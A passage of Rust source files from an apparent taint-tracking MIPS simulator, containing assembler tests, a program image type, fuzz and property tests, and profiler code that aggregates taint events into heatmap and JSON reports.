        assert_eq!(insns[1].to_string(), "ori $4,$4,0x0");
        assert_eq!(insns[2].to_string(), "lui $5,0x1000");
        assert_eq!(insns[3].to_string(), "ori $5,$5,0x0");
        // entry resolves to `main`
        assert_eq!(img.entry, TEXT_BASE);
    }

    #[test]
    fn conditional_pseudo_branches_expand() {
        let img = asm("
start:  blt $a0, $a1, start
        bge $a0, $a1, start
        bgt $a0, $a1, start
        ble $a0, $a1, start
        bltu $a0, $a1, start
        ");
        let insns = decode_all(&img);
        assert_eq!(insns[0].to_string(), "slt $1,$4,$5");
        assert_eq!(insns[1].to_string(), "bne $1,$0,-2");
        assert_eq!(insns[2].to_string(), "slt $1,$4,$5");
        assert_eq!(insns[3].to_string(), "beq $1,$0,-4");
        assert_eq!(insns[4].to_string(), "slt $1,$5,$4");
        assert_eq!(insns[6].to_string(), "slt $1,$5,$4");
        assert_eq!(insns[8].to_string(), "sltu $1,$4,$5");
    }

    #[test]
    fn jumps_to_labels() {
        let img = asm("
main:   jal f
        j end
f:      jr $ra
end:    nop
        ");
        let insns = decode_all(&img);
        assert_eq!(
            insns[0],
            Instr::Jump {
                target: (TEXT_BASE + 8) >> 2,
                link: true
            }
        );
        assert_eq!(
            insns[1],
            Instr::Jump {
                target: (TEXT_BASE + 12) >> 2,
                link: false
            }
        );
    }

    #[test]
    fn errors_carry_line_numbers() {
        let err = assemble("nop\n bogus $t0\n").unwrap_err();
        assert_eq!(err.line, 2);
        assert!(err.msg.contains("bogus"));

        let err = assemble("lw $t0, buf").unwrap_err();
        assert!(err.msg.contains("offset(reg)"));

        let err = assemble("beq $t0, $t1, missing").unwrap_err();
        assert!(err.msg.contains("undefined symbol"));

        let err = assemble("x: nop\nx: nop").unwrap_err();
        assert!(err.msg.contains("duplicate label"));

        let err = assemble(".data\n.word 1\nnop").unwrap_err();
        assert!(err.msg.contains("instruction outside .text"));

        let err = assemble(".word 1").unwrap_err();
        assert!(err.msg.contains("outside .data"));

        let err = assemble("addiu $t0, $t0, 0x20000").unwrap_err();
        assert!(err.msg.contains("16 bits"));
    }

    #[test]
    fn comments_and_strings_interact_safely() {
        let img = asm(r#"
        .data
s:      .asciiz "has # and ; inside" # real comment
        .text
        nop ; trailing comment
        "#);
        assert_eq!(&img.data[..7], b"has # a");
        assert_eq!(img.text.len(), 1);
    }

    #[test]
    fn char_literals_in_immediates() {
        let img = asm("li $t0, 'a'\nli $t1, '\\n'\nli $t2, '\\0'");
        let insns = decode_all(&img);
        assert_eq!(insns[0].to_string(), "addiu $8,$0,97");
        assert_eq!(insns[1].to_string(), "addiu $9,$0,10");
        assert_eq!(insns[2].to_string(), "addiu $10,$0,0");
    }

    #[test]
    fn string_escapes_decode() {
        assert_eq!(
            parse_string_literal(r#""a\n\t\x41\0z""#).unwrap(),
            vec![b'a', b'\n', b'\t', 0x41, 0, b'z']
        );
        assert_eq!(parse_string_literal("\"\""), Some(vec![]));
        assert_eq!(parse_string_literal("nope"), None);
    }

    #[test]
    fn entry_prefers_start_then_main() {
        let img = asm("pre: nop\nmain: nop");
        assert_eq!(img.entry, TEXT_BASE + 4);
        let img = asm("main: nop\n_start: nop");
        assert_eq!(img.entry, TEXT_BASE + 4, "_start wins over main");
        let img = asm("anon: nop");
        assert_eq!(img.entry, TEXT_BASE);
    }

    #[test]
    fn source_lines_recorded() {
        let img = asm("nop\nnop\n\nnop");
        assert_eq!(img.lines, vec![1, 2, 4]);
    }
}
