//! The loadable program image produced by the assembler.

use std::collections::HashMap;
use std::fmt;

use ptaint_isa::{DATA_BASE, TEXT_BASE};

/// An assembled program: resolved text words, data bytes, the entry point,
/// and the symbol table.
///
/// Images are pure data — the loader in `ptaint-os` maps them into a
/// [`MemorySystem`](../ptaint_mem/struct.MemorySystem.html) and sets up the
/// initial stack.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Image {
    /// Encoded instructions, loaded consecutively at [`Image::text_base`].
    pub text: Vec<u32>,
    /// Base virtual address of the text segment.
    pub text_base: u32,
    /// Raw initialized data bytes, loaded at [`Image::data_base`].
    pub data: Vec<u8>,
    /// Base virtual address of the data segment.
    pub data_base: u32,
    /// Entry point (the `main`/`_start` symbol, or the first text address).
    pub entry: u32,
    /// Symbol table: label name → virtual address.
    pub symbols: HashMap<String, u32>,
    /// Source line (1-based) for each text word, parallel to [`Image::text`].
    pub lines: Vec<u32>,
}

impl Image {
    /// An empty image at the conventional bases.
    #[must_use]
    pub fn new() -> Image {
        Image {
            text: Vec::new(),
            text_base: TEXT_BASE,
            data: Vec::new(),
            data_base: DATA_BASE,
            entry: TEXT_BASE,
            symbols: HashMap::new(),
            lines: Vec::new(),
        }
    }

    /// Address of the symbol, if defined.
    #[must_use]
    pub fn symbol(&self, name: &str) -> Option<u32> {
        self.symbols.get(name).copied()
    }

    /// The symbol whose address equals `addr`, preferring the shortest name
    /// for stable output.
    #[must_use]
    pub fn symbol_at(&self, addr: u32) -> Option<&str> {
        self.symbols
            .iter()
            .filter(|&(_, &a)| a == addr)
            .map(|(n, _)| n.as_str())
            .min_by_key(|n| (n.len(), n.to_owned()))
    }

    /// One-past-the-end address of the text segment.
    #[must_use]
    pub fn text_end(&self) -> u32 {
        self.text_base + (self.text.len() as u32) * 4
    }

    /// One-past-the-end address of the data segment (the initial program
    /// break before heap growth).
    #[must_use]
    pub fn data_end(&self) -> u32 {
        self.data_base + self.data.len() as u32
    }

    /// Source line for the instruction at `addr`, when known.
    #[must_use]
    pub fn line_at(&self, addr: u32) -> Option<u32> {
        if addr < self.text_base || !addr.is_multiple_of(4) {
            return None;
        }
        self.lines
            .get(((addr - self.text_base) / 4) as usize)
            .copied()
    }
}

impl fmt::Display for Image {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "image: {} text words @ {:#x}, {} data bytes @ {:#x}, entry {:#x}, {} symbols",
            self.text.len(),
            self.text_base,
            self.data.len(),
            self.data_base,
            self.entry,
            self.symbols.len()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bounds_arithmetic() {
        let mut img = Image::new();
        img.text = vec![0; 3];
        img.data = vec![0; 10];
        assert_eq!(img.text_end(), TEXT_BASE + 12);
        assert_eq!(img.data_end(), DATA_BASE + 10);
    }

    #[test]
    fn symbol_lookup_both_ways() {
        let mut img = Image::new();
        img.symbols.insert("main".into(), TEXT_BASE);
        img.symbols.insert("m".into(), TEXT_BASE);
        img.symbols.insert("buf".into(), DATA_BASE + 4);
        assert_eq!(img.symbol("buf"), Some(DATA_BASE + 4));
        assert_eq!(img.symbol("nope"), None);
        // Shortest name wins for reverse lookup.
        assert_eq!(img.symbol_at(TEXT_BASE), Some("m"));
        assert_eq!(img.symbol_at(0xdead_0000), None);
    }

    #[test]
    fn line_lookup() {
        let mut img = Image::new();
        img.text = vec![0, 0];
        img.lines = vec![10, 12];
        assert_eq!(img.line_at(TEXT_BASE), Some(10));
        assert_eq!(img.line_at(TEXT_BASE + 4), Some(12));
        assert_eq!(img.line_at(TEXT_BASE + 8), None);
        assert_eq!(img.line_at(TEXT_BASE + 1), None);
        assert_eq!(img.line_at(0), None);
    }
}
