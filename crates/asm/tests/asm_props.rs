//! Property tests: assembler ↔ disassembler consistency.

use proptest::prelude::*;
use ptaint_asm::{assemble, disassemble};
use ptaint_isa::Instr;

/// Strategy: a random decodable instruction word.
fn arb_instr() -> impl Strategy<Value = Instr> {
    any::<u32>().prop_filter_map("decodable", |w| Instr::decode(w).ok())
}

proptest! {
    /// Any decodable instruction's Display form assembles back to an
    /// instruction with identical semantics (encode fixpoint), as long as
    /// it is expressible in source (branch/jump targets must be in range —
    /// we relocate them to offset 0 to keep the test self-contained).
    #[test]
    fn display_reassembles(insn in arb_instr()) {
        // Normalize control flow to assembler-friendly forms.
        let insn = match insn {
            Instr::Branch { cond, rs, rt, .. } => Instr::Branch { cond, rs, rt, offset: -1 },
            Instr::BranchZ { cond, rs, .. } => Instr::BranchZ { cond, rs, offset: -1 },
            Instr::Jump { link, .. } => Instr::Jump { target: 0x0040_0000 >> 2, link },
            other => other,
        };
        let text = match insn {
            // Branch displays use instruction-relative offsets that the
            // assembler reads as absolute targets; write them with labels.
            Instr::Branch { .. } | Instr::BranchZ { .. } => {
                let mnemonic = insn.to_string();
                let head = mnemonic.split(',').next().unwrap().to_owned();
                let args: Vec<&str> = mnemonic.split(' ').nth(1).unwrap().split(',').collect();
                let regs = &args[..args.len() - 1];
                format!("main:\n {} {},main\n", head.split(' ').next().unwrap(), regs.join(","))
            }
            _ => format!("main:\n {insn}\n"),
        };
        let image = assemble(&text).unwrap_or_else(|e| panic!("`{text}` failed: {e}"));
        let redecoded = Instr::decode(image.text[0]).expect("decodes");
        match insn {
            Instr::Branch { cond, rs, rt, .. } => {
                prop_assert_eq!(redecoded, Instr::Branch { cond, rs, rt, offset: -1 });
            }
            Instr::BranchZ { cond, rs, .. } => {
                prop_assert_eq!(redecoded, Instr::BranchZ { cond, rs, offset: -1 });
            }
            other => prop_assert_eq!(redecoded, other),
        }
    }

    /// Disassembly output of a random word program never panics and marks
    /// undecodable words as data.
    #[test]
    fn disassembler_total(words in proptest::collection::vec(any::<u32>(), 1..64)) {
        let mut image = assemble("nop").unwrap();
        image.text = words.clone();
        let text = disassemble(&image);
        prop_assert_eq!(text.lines().count(), words.len());
        for (line, w) in text.lines().zip(&words) {
            if Instr::decode(*w).is_err() {
                prop_assert!(line.contains(".word"), "{}", line);
            }
        }
    }

    /// `.word`/`.byte`/`.space` layouts always produce data of the right
    /// size and alignment.
    #[test]
    fn data_layout_sizes(words in 1usize..8, bytes in 1usize..8, pad in 0u32..64) {
        let src = format!(
            ".data\nw: .word {}\nb: .byte {}\ns: .space {}\n.align 2\ne: .word 1\n",
            vec!["7"; words].join(", "),
            vec!["3"; bytes].join(", "),
            pad,
        );
        let image = assemble(&src).unwrap();
        let w = image.symbol("w").unwrap();
        let b = image.symbol("b").unwrap();
        let s = image.symbol("s").unwrap();
        let e = image.symbol("e").unwrap();
        prop_assert_eq!(w % 4, 0);
        prop_assert_eq!(b - w, 4 * words as u32);
        prop_assert_eq!(s - b, bytes as u32);
        prop_assert_eq!(e % 4, 0);
        prop_assert!(e >= s + pad);
        prop_assert!(e - (s + pad) < 4);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Fuzz: the assembler never panics on arbitrary source text.
    #[test]
    fn assembler_is_panic_free(input in "\\PC{0,200}") {
        let _ = assemble(&input);
    }

    /// Fuzz with assembly-shaped lines.
    #[test]
    fn asm_shaped_fuzz(lines in proptest::collection::vec(
        "[a-z]{1,6} \\$[a-z0-9]{1,4}(, ?(\\$[a-z0-9]{1,4}|-?[0-9]{1,5}|0x[0-9a-f]{1,8})){0,3}",
        0..12))
    {
        let _ = assemble(&lines.join("\n"));
    }
}
