//! Event-stream aggregation: taint heatmap, source totals, syscall table.

use ptaint_trace::{Event, Observer};
use std::collections::BTreeMap;

/// Per-site (per-pc) taint activity counters.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct SiteCounters {
    /// `taint_propagate` events at this pc (Table-1 rules firing).
    pub propagations: u64,
    /// `pointer_check` events (a tainted address/target was inspected).
    pub checks: u64,
    /// Checks that flagged (would alert under the strictest policy).
    pub flagged: u64,
    /// `alert` events (the detector actually raised).
    pub alerts: u64,
    /// `check_elided` events (statically proven, probe skipped).
    pub elided: u64,
}

impl SiteCounters {
    /// Sum of all counters — the site's heat.
    #[must_use]
    pub fn heat(&self) -> u64 {
        self.propagations + self.checks + self.flagged + self.alerts + self.elided
    }
}

/// Taint-source totals for one source kind (`syscall`, `argv`, ...).
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct SourceAgg {
    /// Source events of this kind.
    pub count: u64,
    /// Total bytes tainted by them.
    pub bytes: u64,
}

/// Per-syscall accounting.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct SyscallAgg {
    /// Invocations.
    pub count: u64,
    /// Instructions retired since the previous syscall (any syscall),
    /// summed — the guest-step latency spent reaching each invocation.
    pub steps: u64,
}

/// An [`Observer`] that folds the taint event stream into a heatmap.
///
/// Sites are keyed by pc (symbolization happens at report time, so the
/// collector stays independent of the image). All maps are `BTreeMap`s:
/// iteration order — and therefore report output — is deterministic.
#[derive(Debug, Default)]
pub struct EventProfile {
    /// Taint activity by site pc.
    pub sites: BTreeMap<u32, SiteCounters>,
    /// Taint sources by kind.
    pub sources: BTreeMap<&'static str, SourceAgg>,
    /// Syscall table by name.
    pub syscalls: BTreeMap<&'static str, SyscallAgg>,
    retired: u64,
    last_syscall_retired: u64,
}

impl EventProfile {
    /// A fresh, empty collector.
    #[must_use]
    pub fn new() -> EventProfile {
        EventProfile::default()
    }

    /// Retired instructions observed (drives syscall step latency).
    #[must_use]
    pub fn retired(&self) -> u64 {
        self.retired
    }

    fn site(&mut self, pc: u32) -> &mut SiteCounters {
        self.sites.entry(pc).or_default()
    }
}

impl Observer for EventProfile {
    fn on_event(&mut self, event: &Event) {
        match event {
            Event::Retire { .. } => self.retired += 1,
            Event::TaintSource { kind, len, .. } => {
                let agg = self.sources.entry(*kind).or_default();
                agg.count += 1;
                agg.bytes += u64::from(*len);
            }
            Event::TaintPropagate(transfer) => self.site(transfer.pc).propagations += 1,
            Event::PointerCheck { pc, flagged, .. } => {
                let site = self.site(*pc);
                site.checks += 1;
                if *flagged {
                    site.flagged += 1;
                }
            }
            Event::Alert { pc, .. } => self.site(*pc).alerts += 1,
            Event::CheckElided { pc } => self.site(*pc).elided += 1,
            Event::Syscall { name, .. } => {
                let steps = self.retired - self.last_syscall_retired;
                self.last_syscall_retired = self.retired;
                let agg = self.syscalls.entry(*name).or_default();
                agg.count += 1;
                agg.steps += steps;
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_isa::{Instr, MemWidth, Reg};

    fn retire() -> Event {
        Event::Retire {
            pc: 0x40_0000,
            instr: Instr::JumpReg { rs: Reg::RA },
            tainted: false,
        }
    }

    #[test]
    fn syscall_latency_is_steps_since_previous_syscall() {
        let mut p = EventProfile::new();
        for _ in 0..5 {
            p.on_event(&retire());
        }
        p.on_event(&Event::Syscall {
            pc: 0x40_0010,
            number: 46,
            name: "recv",
            result: 4,
        });
        for _ in 0..3 {
            p.on_event(&retire());
        }
        p.on_event(&Event::Syscall {
            pc: 0x40_0010,
            number: 46,
            name: "recv",
            result: 4,
        });
        let recv = p.syscalls["recv"];
        assert_eq!(recv.count, 2);
        assert_eq!(recv.steps, 8);
    }

    #[test]
    fn sites_aggregate_checks_and_elisions_by_pc() {
        let probe = Instr::Load {
            width: MemWidth::Word,
            signed: true,
            rt: Reg::new(9),
            base: Reg::new(8),
            offset: 0,
        };
        let mut p = EventProfile::new();
        p.on_event(&Event::PointerCheck {
            pc: 0x40_0104,
            instr: probe,
            reg: Reg::new(8),
            value: 0x6161_6161,
            taint_bits: 0b1111,
            flagged: true,
        });
        p.on_event(&Event::CheckElided { pc: 0x40_0104 });
        p.on_event(&Event::CheckElided { pc: 0x40_0108 });
        let hot = p.sites[&0x40_0104];
        assert_eq!((hot.checks, hot.flagged, hot.elided), (1, 1, 1));
        assert_eq!(p.sites[&0x40_0108].elided, 1);
        assert_eq!(hot.heat(), 3);
    }

    #[test]
    fn sources_fold_counts_and_bytes_by_kind() {
        let mut p = EventProfile::new();
        for len in [4u32, 12] {
            p.on_event(&Event::TaintSource {
                kind: "syscall",
                label: format!("recv#1 fd={len}"),
                base: 0x1000_0000,
                len,
            });
        }
        assert_eq!(
            p.sources["syscall"],
            SourceAgg {
                count: 2,
                bytes: 16
            }
        );
    }
}
