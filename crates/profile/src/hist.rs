//! Per-PC retirement histogram with the decode cache's page layout.

use ptaint_isa::PAGE_SIZE;
use std::collections::HashMap;

/// Counter slots per page: one per instruction word.
pub const PAGE_SLOTS: usize = (PAGE_SIZE / 4) as usize;

/// A per-PC retirement histogram.
///
/// Mirrors the decode cache's layout (`crates/cpu/src/decode_cache.rs`):
/// pages are keyed by `pc / PAGE_SIZE` in a `HashMap` that points into a
/// flat `Vec` of boxed 1024-slot counter arrays, with a one-entry shortcut
/// for the last page touched — the steady-state cost of [`bump`] is the
/// shortcut compare plus one array increment.
///
/// [`bump`]: PcHistogram::bump
#[derive(Debug)]
pub struct PcHistogram {
    pages: HashMap<u32, usize>,
    store: Vec<Box<[u64; PAGE_SLOTS]>>,
    last_page: u32,
    last_idx: usize,
}

impl Default for PcHistogram {
    fn default() -> PcHistogram {
        PcHistogram {
            pages: HashMap::new(),
            store: Vec::new(),
            last_page: u32::MAX,
            last_idx: usize::MAX,
        }
    }
}

impl PcHistogram {
    /// An empty histogram.
    #[must_use]
    pub fn new() -> PcHistogram {
        PcHistogram::default()
    }

    /// Count one retirement at `pc`.
    #[inline]
    pub fn bump(&mut self, pc: u32) {
        let page = pc / PAGE_SIZE;
        let slot = ((pc % PAGE_SIZE) / 4) as usize;
        if page != self.last_page {
            let idx = match self.pages.get(&page) {
                Some(&idx) => idx,
                None => {
                    let idx = self.store.len();
                    self.store.push(Box::new([0u64; PAGE_SLOTS]));
                    self.pages.insert(page, idx);
                    idx
                }
            };
            self.last_page = page;
            self.last_idx = idx;
        }
        self.store[self.last_idx][slot] += 1;
    }

    /// Total retirements counted.
    #[must_use]
    pub fn total(&self) -> u64 {
        self.store.iter().map(|page| page.iter().sum::<u64>()).sum()
    }

    /// All non-zero `(pc, count)` pairs in ascending `pc` order.
    #[must_use]
    pub fn entries(&self) -> Vec<(u32, u64)> {
        let mut pages: Vec<(&u32, &usize)> = self.pages.iter().collect();
        pages.sort_unstable_by_key(|(page, _)| **page);
        let mut out = Vec::new();
        for (page, &idx) in pages {
            let base = page * PAGE_SIZE;
            for (slot, &count) in self.store[idx].iter().enumerate() {
                if count != 0 {
                    out.push((base + (slot as u32) * 4, count));
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_land_in_the_right_slots_across_pages() {
        let mut h = PcHistogram::new();
        h.bump(0x40_0000);
        h.bump(0x40_0000);
        h.bump(0x40_0ffc); // last slot of the first page
        h.bump(0x40_1000); // next page
        h.bump(0x40_0004); // back to the first page (shortcut miss)
        assert_eq!(h.total(), 5);
        assert_eq!(
            h.entries(),
            vec![
                (0x40_0000, 2),
                (0x40_0004, 1),
                (0x40_0ffc, 1),
                (0x40_1000, 1),
            ]
        );
    }

    #[test]
    fn empty_histogram_is_empty() {
        let h = PcHistogram::new();
        assert_eq!(h.total(), 0);
        assert!(h.entries().is_empty());
    }
}
