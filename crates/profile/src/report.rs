//! The merged profile report: symbolized, JSON-renderable, printable.

use crate::events::EventProfile;
use crate::symbols::SymbolTable;
use crate::HotProfile;
use ptaint_trace::json::escape;
use ptaint_trace::ToJson;
use std::collections::BTreeMap;
use std::fmt::Write as _;

/// How many hot pcs the JSON report keeps (the text report trims further).
const HOT_PC_CAP: usize = 32;

/// One row of the per-PC hot list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HotPc {
    /// Instruction address.
    pub pc: u32,
    /// `sym+0x1c`-style display name.
    pub symbol: String,
    /// Retirement count.
    pub count: u64,
}

/// Retirements aggregated over one symbol's address range.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SymbolCount {
    /// Owning symbol (or raw hex for unsymbolized text).
    pub symbol: String,
    /// Retirement count.
    pub count: u64,
}

/// One taint-heatmap row: a site's taint activity, symbolized.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TaintSite {
    /// Site address.
    pub pc: u32,
    /// `sym+0x1c`-style display name.
    pub symbol: String,
    /// `taint_propagate` events here.
    pub propagations: u64,
    /// `pointer_check` events here.
    pub checks: u64,
    /// Checks that flagged.
    pub flagged: u64,
    /// Alerts raised here.
    pub alerts: u64,
    /// Probes statically elided here.
    pub elided: u64,
}

impl TaintSite {
    fn heat(&self) -> u64 {
        self.propagations + self.checks + self.flagged + self.alerts + self.elided
    }
}

/// One syscall-table row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SyscallRow {
    /// Kernel-model syscall name.
    pub name: String,
    /// Invocations.
    pub count: u64,
    /// Guest instructions retired between syscalls, summed per call.
    pub steps: u64,
}

/// The complete profile of one run. Counts only — byte-deterministic for a
/// deterministic guest, regardless of host, engine, or wall-clock.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProfileReport {
    /// Total retired instructions.
    pub steps: u64,
    /// Hottest pcs (top [`HOT_PC_CAP`]; count desc, pc asc on ties).
    pub hot_pcs: Vec<HotPc>,
    /// Retirements by owning symbol (count desc, name asc on ties).
    pub symbols: Vec<SymbolCount>,
    /// Collapsed call stacks (`a;b;c`, lexicographic by path).
    pub collapsed: Vec<(String, u64)>,
    /// Taint heatmap sites (heat desc, pc asc on ties).
    pub taint_sites: Vec<TaintSite>,
    /// Taint heat aggregated by owning symbol (heat desc, name asc).
    pub taint_symbols: Vec<SymbolCount>,
    /// Taint sources: `(kind, count, bytes)` in kind order.
    pub sources: Vec<(String, u64, u64)>,
    /// Syscall table in name order.
    pub syscalls: Vec<SyscallRow>,
}

impl ProfileReport {
    /// Merges the hot-loop and event collectors into a symbolized report.
    #[must_use]
    pub fn build(hot: &HotProfile, events: &EventProfile, symbols: &SymbolTable) -> ProfileReport {
        let entries = hot.hist.entries();

        // Hottest individual pcs.
        let mut hot_pcs: Vec<(u32, u64)> = entries.clone();
        hot_pcs.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        hot_pcs.truncate(HOT_PC_CAP);
        let hot_pcs = hot_pcs
            .into_iter()
            .map(|(pc, count)| HotPc {
                pc,
                symbol: symbols.name(pc),
                count,
            })
            .collect();

        // Retirements folded per owning symbol.
        let mut by_symbol: BTreeMap<String, u64> = BTreeMap::new();
        for &(pc, count) in &entries {
            *by_symbol.entry(symbols.owner(pc)).or_default() += count;
        }
        let symbols_out = rank(by_symbol);

        // Taint heatmap.
        let mut taint_sites: Vec<TaintSite> = events
            .sites
            .iter()
            .map(|(&pc, c)| TaintSite {
                pc,
                symbol: symbols.name(pc),
                propagations: c.propagations,
                checks: c.checks,
                flagged: c.flagged,
                alerts: c.alerts,
                elided: c.elided,
            })
            .collect();
        taint_sites.sort_by(|a, b| b.heat().cmp(&a.heat()).then(a.pc.cmp(&b.pc)));
        let mut taint_by_symbol: BTreeMap<String, u64> = BTreeMap::new();
        for site in &taint_sites {
            *taint_by_symbol.entry(symbols.owner(site.pc)).or_default() += site.heat();
        }

        ProfileReport {
            steps: hot.total(),
            hot_pcs,
            symbols: symbols_out,
            collapsed: hot.calls.collapsed(symbols),
            taint_sites,
            taint_symbols: rank(taint_by_symbol),
            sources: events
                .sources
                .iter()
                .map(|(&kind, agg)| (kind.to_string(), agg.count, agg.bytes))
                .collect(),
            syscalls: events
                .syscalls
                .iter()
                .map(|(&name, agg)| SyscallRow {
                    name: name.to_string(),
                    count: agg.count,
                    steps: agg.steps,
                })
                .collect(),
        }
    }

    /// The human-readable top-N report printed by `ptaint-run profile`.
    #[must_use]
    pub fn render_text(&self, top: usize) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "--- profile: {} instructions retired ---", self.steps);

        let _ = writeln!(out, "hot blocks (top {top} of {}):", self.symbols.len());
        for row in self.symbols.iter().take(top) {
            let _ = writeln!(out, "  {:>12}  {}", row.count, row.symbol);
        }

        let _ = writeln!(out, "hot pcs (top {top} of {}):", self.hot_pcs.len());
        for row in self.hot_pcs.iter().take(top) {
            let _ = writeln!(out, "  {:>12}  0x{:08x}  {}", row.count, row.pc, row.symbol);
        }

        let _ = writeln!(
            out,
            "taint hotspots (top {top} of {} sites):",
            self.taint_sites.len()
        );
        for site in self.taint_sites.iter().take(top) {
            let _ = writeln!(
                out,
                "  {:>12}  0x{:08x}  {}  [prop {} check {} flag {} alert {} elided {}]",
                site.heat(),
                site.pc,
                site.symbol,
                site.propagations,
                site.checks,
                site.flagged,
                site.alerts,
                site.elided,
            );
        }

        if !self.sources.is_empty() {
            let _ = writeln!(out, "taint sources:");
            for (kind, count, bytes) in &self.sources {
                let _ = writeln!(out, "  {:>12}  {kind} ({bytes} bytes)", count);
            }
        }

        if !self.syscalls.is_empty() {
            let _ = writeln!(out, "syscalls (count, guest steps to reach):");
            for row in &self.syscalls {
                let _ = writeln!(
                    out,
                    "  {:>12}  {:<8} steps {}",
                    row.count, row.name, row.steps
                );
            }
        }

        let _ = writeln!(out, "call paths ({}):", self.collapsed.len());
        for (path, count) in self.collapsed.iter().take(top) {
            let _ = writeln!(out, "  {:>12}  {path}", count);
        }
        out
    }
}

/// Folds a name→count map into rows sorted count desc, name asc.
fn rank(map: BTreeMap<String, u64>) -> Vec<SymbolCount> {
    let mut rows: Vec<SymbolCount> = map
        .into_iter()
        .map(|(symbol, count)| SymbolCount { symbol, count })
        .collect();
    rows.sort_by(|a, b| b.count.cmp(&a.count).then(a.symbol.cmp(&b.symbol)));
    rows
}

impl ToJson for ProfileReport {
    fn to_json(&self) -> String {
        let mut out = String::from("{");
        let _ = write!(out, "\"steps\":{}", self.steps);

        out.push_str(",\"hot_pcs\":[");
        for (i, row) in self.hot_pcs.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "{{\"pc\":\"0x{:x}\",\"symbol\":{},\"count\":{}}}",
                row.pc,
                escape(&row.symbol),
                row.count
            );
        }

        out.push_str("],\"symbols\":[");
        for (i, row) in self.symbols.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "{{\"symbol\":{},\"count\":{}}}",
                escape(&row.symbol),
                row.count
            );
        }

        out.push_str("],\"collapsed\":[");
        for (i, (path, count)) in self.collapsed.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(out, "{}", escape(&format!("{path} {count}")));
        }

        out.push_str("],\"taint_sites\":[");
        for (i, site) in self.taint_sites.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "{{\"pc\":\"0x{:x}\",\"symbol\":{},\"propagations\":{},\"checks\":{},\"flagged\":{},\"alerts\":{},\"elided\":{}}}",
                site.pc,
                escape(&site.symbol),
                site.propagations,
                site.checks,
                site.flagged,
                site.alerts,
                site.elided
            );
        }

        out.push_str("],\"taint_symbols\":[");
        for (i, row) in self.taint_symbols.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "{{\"symbol\":{},\"heat\":{}}}",
                escape(&row.symbol),
                row.count
            );
        }

        out.push_str("],\"taint_sources\":[");
        for (i, (kind, count, bytes)) in self.sources.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "{{\"kind\":{},\"count\":{count},\"bytes\":{bytes}}}",
                escape(kind)
            );
        }

        out.push_str("],\"syscalls\":[");
        for (i, row) in self.syscalls.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "{{\"name\":{},\"count\":{},\"steps\":{}}}",
                escape(&row.name),
                row.count,
                row.steps
            );
        }

        out.push_str("]}");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_trace::{Event, Observer};

    fn symtab() -> SymbolTable {
        SymbolTable::build(
            [
                ("main".to_string(), 0x40_0000),
                ("handle".to_string(), 0x40_0100),
            ],
            0x40_0000,
            0x40_1000,
        )
    }

    fn sample() -> ProfileReport {
        let mut hot = HotProfile::new();
        hot.on_retire(0x40_0000);
        hot.on_retire(0x40_0000);
        hot.on_retire(0x40_0104);
        let mut events = EventProfile::new();
        events.on_event(&Event::CheckElided { pc: 0x40_0104 });
        events.on_event(&Event::TaintSource {
            kind: "syscall",
            label: "recv#1 fd=4".to_string(),
            base: 0x1000_0000,
            len: 24,
        });
        ProfileReport::build(&hot, &events, &symtab())
    }

    #[test]
    fn report_is_symbolized_and_ranked() {
        let report = sample();
        assert_eq!(report.steps, 3);
        assert_eq!(report.symbols[0].symbol, "main");
        assert_eq!(report.symbols[0].count, 2);
        assert_eq!(report.hot_pcs[0].pc, 0x40_0000);
        assert_eq!(report.taint_sites[0].symbol, "handle+0x4");
        assert_eq!(report.taint_symbols[0].symbol, "handle");
        assert_eq!(report.sources, vec![("syscall".to_string(), 1, 24)]);
    }

    #[test]
    fn json_is_stable_and_counts_only() {
        let report = sample();
        let json = report.to_json();
        assert_eq!(json, sample().to_json(), "report must be deterministic");
        assert!(json.starts_with("{\"steps\":3,\"hot_pcs\":["));
        assert!(json.contains("\"taint_sites\":[{\"pc\":\"0x400104\",\"symbol\":\"handle+0x4\""));
        assert!(json.ends_with("\"syscalls\":[]}"));
    }

    #[test]
    fn text_report_names_the_hot_symbols() {
        let text = sample().render_text(10);
        assert!(text.contains("3 instructions retired"));
        assert!(text.contains("main"));
        assert!(text.contains("handle+0x4"));
    }
}
