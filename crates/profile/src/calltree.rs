//! Shadow call stack folded into a call-path tree.

use crate::symbols::SymbolTable;

/// Guards runaway recursion: beyond this depth calls are counted but not
/// materialized as tree nodes (returns stay balanced via the overflow
/// counter, so the cursor recovers exactly).
const DEPTH_CAP: usize = 256;

#[derive(Debug)]
struct Node {
    /// Callee entry pc (`u32::MAX` until the root sees its first retire).
    entry: u32,
    /// Instructions retired while this frame was on top (exclusive count).
    retired: u64,
    /// Child node indices, in first-call order.
    children: Vec<usize>,
}

/// A tree of observed call paths with exclusive retire counts per frame.
///
/// Driven by the retired instruction stream: `jal`/`jalr` push the callee
/// entry, `jr $ra` pops. The guest is not obligated to keep a disciplined
/// stack — returns past the root are dropped (counted), depth beyond
